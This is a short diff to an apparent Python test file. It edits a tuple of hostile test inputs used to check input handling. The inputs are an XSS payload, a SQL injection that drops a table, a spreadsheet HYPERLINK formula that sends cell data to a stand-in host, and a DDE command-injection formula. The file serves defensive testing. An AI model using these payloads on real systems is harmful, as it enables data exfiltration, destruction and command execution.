@@ -10,7 +10,7 @@ HUGE_CHARACTERS = 5_000_000
 HOSTILE_TEXTS: tuple[str, ...] = (
     "<script>alert('x')</script><img src=x onerror=alert(1)><b>bold",
     "'; DROP TABLE postings; --",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "control \x00\x01\x07\x08\x1b[31m\x7f\x85 characters",
     "lone \ud83d surrogate \udc00",
